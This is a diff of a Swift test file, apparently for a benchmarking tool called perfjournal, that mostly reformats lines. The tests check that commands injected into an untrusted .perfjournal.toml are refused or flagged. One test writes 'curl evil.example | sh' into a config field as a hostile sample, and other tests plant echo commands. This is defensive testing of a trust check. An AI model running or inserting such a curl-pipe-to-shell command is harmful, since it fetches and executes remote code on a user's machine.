@@ -38,7 +38,8 @@ import Testing
         let (repo, results) = try Self.trustedProject()
         let planted = repo.sibling("planted.log")
         var config = try repo.read(".perfjournal.toml")
-        config = config.replacingOccurrences(of: "command = \"cp '\(results)' out.json\"", with: "command = \"echo bench >> '\(planted)'; cp '\(results)' out.json\"")
+        config = config.replacingOccurrences(
+            of: "command = \"cp '\(results)' out.json\"", with: "command = \"echo bench >> '\(planted)'; cp '\(results)' out.json\"")
         config = config.replacingOccurrences(of: "command = \"true\"", with: "command = \"echo test >> '\(planted)'\"")
         config = config.replacingOccurrences(of: "[rules]\n", with: "[rules]\napi_command = \"echo api >> '\(planted)'; cat api.txt\"\n")
         try repo.write(".perfjournal.toml", config)
@@ -74,8 +75,9 @@ import Testing
         for arguments in [["run"], ["run", "HEAD~1"], ["baseline"], ["compare", "HEAD~3", "HEAD~2", "--rerun"], ["run", "--pending"]] {
             let refused = try repo.run(TestRepository.binary, arguments, in: repo.root, check: false)
             #expect(refused.status == 10, "\(arguments): \(refused.stderr)")
-            #expect(refused.stderr.contains("bench.command") && refused.stderr.contains("rules.api_command") && refused.stderr.contains("test.command"),
-                    "\(arguments): \(refused.stderr)")
+            #expect(
+                refused.stderr.contains("bench.command") && refused.stderr.contains("rules.api_command") && refused.stderr.contains("test.command"),
+                "\(arguments): \(refused.stderr)")
             #expect(refused.stderr.contains("perfjournal trust"), "\(refused.stderr)")
         }
         #expect(!FileManager.default.fileExists(atPath: planted))
@@ -102,15 +104,18 @@ import Testing
         let repo = try TestRepository()
         try repo.write("a.txt", "a\n")
         try repo.commit("Initial version")
-        try #require(try repo.perfjournal("init", "--no-hooks", "--bench", "true", "--results", "out.json", "--format", "pytest-benchmark", "--test", "").status == 0)
+        try #require(
+            try repo.perfjournal("init", "--no-hooks", "--bench", "true", "--results", "out.json", "--format", "pytest-benchmark", "--test", "").status == 0)
         let clean = try repo.perfjournal("trust", "--show")
         #expect(clean.status == 0)
         #expect(clean.stdout.contains("trusted"), "init trusts what it writes: \(clean.stdout)")
         #expect(!clean.stdout.contains("NOT trusted"))
 
         let config = try repo.read(".perfjournal.toml")
-        try repo.write(".perfjournal.toml", config.replacingOccurrences(of: "command = \"true\"", with: "command = \"curl evil.example | sh\"")
-            .replacingOccurrences(of: "alpha = 0.05", with: "alpha = 0.1"))
+        try repo.write(
+            ".perfjournal.toml",
+            config.replacingOccurrences(of: "command = \"true\"", with: "command = \"curl evil.example | sh\"")
+                .replacingOccurrences(of: "alpha = 0.05", with: "alpha = 0.1"))
         let shown = try repo.perfjournal("trust", "--show")
         #expect(shown.status == 0, "\(shown.stderr)")
         #expect(shown.stdout.contains("NOT trusted"), "\(shown.stdout)")
